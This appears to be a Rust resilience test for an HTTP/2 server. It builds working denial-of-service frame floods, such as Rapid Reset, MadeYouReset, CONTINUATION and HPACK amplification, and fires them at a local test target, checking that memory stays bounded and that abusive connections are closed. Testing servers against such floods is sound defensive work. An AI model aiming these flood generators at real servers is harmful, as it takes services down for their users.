//! Frames of HTTP/2 that cost their sender nothing, without end: what each of these attacks has done to other servers.

use std::io::{Read, Write};
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use super::{Port, Security, Stage, Stream, Target, connect_from};
use crate::http2::{DATA, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame, get, settings, window_update};

const PRIORITY: u8 = 2;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
/// A type that no standard defines.
const UNKNOWN: u8 = 0xbe;

/// Connections of an attack on each port.
const CONNECTIONS: u8 = 4;

/// Bytes of frames that are written at a time.
const CHUNK: usize = 64 << 10;

/// How long a connection waits between two chunks. All together then send 25 MB a second: a flood over a network, not the most
/// that this machine can make. A server without optimisation takes some thirty times as long for a frame.
const PAUSE: Duration = Duration::from_millis(if cfg!(debug_assertions) { 500 } else { 20 });

/// Chunks that each connection has sent before the attack stands: a second of it, or two without optimisation.
const CHUNKS: usize = if cfg!(debug_assertions) { 4 } else { 50 };

/// Bytes of memory that all connections of an attack may take together.
const MEMORY: u64 = 32 << 20;

/// How long a write may wait before the client connects anew.
const WRITES: Duration = Duration::from_millis(200);

/// What is sent without end.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Flood {
    /// Requests that are withdrawn at once (CVE-2023-44487).
    RapidReset,
    /// Streams that the client makes the server reset, because their frames are wrong (CVE-2025-8671).
    MadeResets,
    /// One head in ever further parts (CVE-2024-27316).
    Continuation,
    /// Fields that refer to one large entry of the table of fields.
    Compressed,
    /// Pings whose answers nobody reads (CVE-2019-9512).
    Pings,
    /// Settings whose acknowledgements nobody reads (CVE-2019-9515).
    Settings,
    /// Frames of a body without a byte in them (CVE-2019-9518).
    EmptyData,
    /// Changes of priority (CVE-2019-9513).
    Priorities,
    /// Windows that grow byte by byte.
    Windows,
    /// Resets of a stream that was answered.
    Resets,
    /// Announcements that the client leaves.
    GoAways,
    /// Frames of an unknown type, which a server must ignore.
    Unknown,
}

impl Flood {
    const ALL: [Flood; 12] = [
        Flood::RapidReset,
        Flood::MadeResets,
        Flood::Continuation,
        Flood::Compressed,
        Flood::Pings,
        Flood::Settings,
        Flood::EmptyData,
        Flood::Priorities,
        Flood::Windows,
        Flood::Resets,
        Flood::GoAways,
        Flood::Unknown,
    ];

    /// Whether the server closes each of its connections because the client asks for nothing. h2 itself ends the others.
    fn exceeds_the_budget(self) -> bool {
        use Flood::{Pings, Priorities, Resets, Settings, Unknown, Windows};
        matches!(self, Pings | Settings | Priorities | Windows | Resets | Unknown)
    }

    /// Frames that come once, after the settings.
    fn first(self) -> Vec<u8> {
        match self {
            // The head of a request that does not end.
            Flood::Continuation => frame(HEADERS, 0, 1, &[0x82, 0x86, 0x84]),
            Flood::Resets => get(1, "/healthz"),
            // The head of a request whose body follows.
            Flood::EmptyData => post(1),
            // A literal that enters the table: a name of one byte and a value of 4,000.
            Flood::Compressed => {
                let entry = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'a'; 4000]].concat();
                frame(HEADERS, 0x5, 1, &[&[0x82, 0x86, 0x84][..], &entry].concat())
            }
            _ => Vec::new(),
        }
    }

    /// The next frames. `stream` is the next stream that was not used.
    fn next(self, stream: &mut u32) -> Vec<u8> {
        let mut new = || {
            let id = *stream;
            *stream += 2;
            id
        };
        match self {
            Flood::RapidReset => {
                let id = new();
                [get(id, "/model"), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
            }
            // A window must not grow by 0.
            Flood::MadeResets => {
                let id = new();
                [get(id, "/model"), window_update(id, 0)].concat()
            }
            Flood::Continuation => frame(CONTINUATION, 0, 1, &[&[0, 1, b'x', 100][..], &[b'a'; 100]].concat()),
            // 62 is the newest entry of the table.
            Flood::Compressed => frame(HEADERS, 0x5, new(), &[&[0x82, 0x86, 0x84][..], &[0x80 | 62; 4000]].concat()),
            Flood::Pings => frame(PING, 0, 0, b"12345678"),
            Flood::Settings => frame(SETTINGS, 0, 0, &[&[0, 4][..], &1000_u32.to_be_bytes()].concat()),
            Flood::EmptyData => frame(DATA, 0, 1, &[]),
            Flood::Priorities => frame(PRIORITY, 0, new(), &[0, 0, 0, 0, 16]),
            Flood::Windows => window_update(0, 1),
            Flood::Resets => frame(RST_STREAM, 0, 1, &8_u32.to_be_bytes()),
            Flood::GoAways => frame(GOAWAY, 0, 0, &[0; 8]),
            Flood::Unknown => frame(UNKNOWN, 0, 0, &[]),
        }
    }
}

/// The head of a POST of JSON.
fn post(stream: u32) -> Vec<u8> {
    crate::http2::post(stream, "/recommend", "application/json")
}

#[test]
fn frames_of_http2_without_end() {
    let target = Target::start(Security::Plain);
    Flood::ALL.into_iter().for_each(|flood| withstand(&target, flood));
}

/// TLS keeps buffers of its own.
#[test]
fn frames_of_http2_without_end_over_tls() {
    let target = Target::start(Security::Tls);
    [Flood::Pings, Flood::Settings, Flood::RapidReset].into_iter().for_each(|flood| withstand(&target, flood));
}

fn withstand(target: &Target, flood: Flood) {
    let sent = AtomicU64::new(0);
    let parts = 2 * usize::from(CONNECTIONS);
    let closed = || target.metric("disconnects_total{reason=\"flood\"}");
    let (closed_before, memory) = (closed(), target.process.forget_peak());
    target.withstand(&format!("{:?}, {flood:?}", target.security()), parts, |stage| {
        thread::scope(|scope| {
            for client in 0..CONNECTIONS {
                for port in [Port::Http, Port::Grpc] {
                    let sent = &sent;
                    // Half of the clients read what the server sends.
                    let attack = Attack { flood, port, client: 2 + client, reads: client % 2 == 0 };
                    scope.spawn(move || attack.run(target, stage, sent));
                }
            }
        });
    });
    let (closed, memory) = (closed() - closed_before, target.process.peak().saturating_sub(memory));
    println!(
        "{flood:?}: {} bytes sent, {closed} connections closed, {} KB more memory",
        sent.into_inner(),
        memory >> 10
    );
    assert!(memory < MEMORY, "{flood:?}: {memory} bytes of memory");
    let expected = if flood.exceeds_the_budget() { parts as f64..f64::INFINITY } else { 0.0..f64::INFINITY };
    assert!(expected.contains(&closed), "{flood:?}: {closed} connections were closed");
}

/// One client of a flood, which connects anew whenever the server closes its connection.
struct Attack {
    flood: Flood,
    port: Port,
    /// The last number of its address.
    client: u8,
    /// Whether it reads what the server sends.
    reads: bool,
}

impl Attack {
    fn run(&self, target: &Target, stage: &Stage, sent: &AtomicU64) {
        let mut chunks = 0;
        while !stage.is_over() {
            let Ok(mut stream) = self.connect(target) else { continue };
            let mut next = 3;
            let mut bytes = Vec::new();
            loop {
                while bytes.len() < CHUNK {
                    bytes.extend(self.flood.next(&mut next));
                }
                let written = stream.write_all(&bytes).and_then(|()| stream.flush());
                chunks += 1;
                if chunks == CHUNKS {
                    stage.stand();
                }
                // A connection that the server closes buys no further chunk.
                if stage.waits(PAUSE) {
                    return;
                }
                // The server may close the connection, or stop to read.
                if written.is_err() {
                    break;
                }
                sent.fetch_add(bytes.len() as u64, Ordering::Relaxed);
                if self.reads {
                    read_what_is_there(&mut stream);
                }
                bytes.clear();
            }
        }
    }

    /// Connects and sends what comes first.
    fn connect(&self, target: &Target) -> std::io::Result<Box<dyn Stream>> {
        let tcp = connect_from(self.client, target.address(self.port))?;
        // Both handles set the options of one socket.
        let socket = tcp.try_clone()?;
        let mut stream = target.secure(tcp)?;
        stream.write_all(&[PREFACE, &settings(1 << 16), &self.flood.first()].concat())?;
        stream.flush()?;
        socket.set_write_timeout(Some(WRITES))?;
        socket.set_read_timeout(Some(Duration::from_millis(1)))?;
        Ok(stream)
    }
}

fn read_what_is_there(stream: &mut impl Read) {
    let mut bytes = [0; CHUNK];
    // It may be nothing, or the end.
    let _ = stream.read(&mut bytes);
}
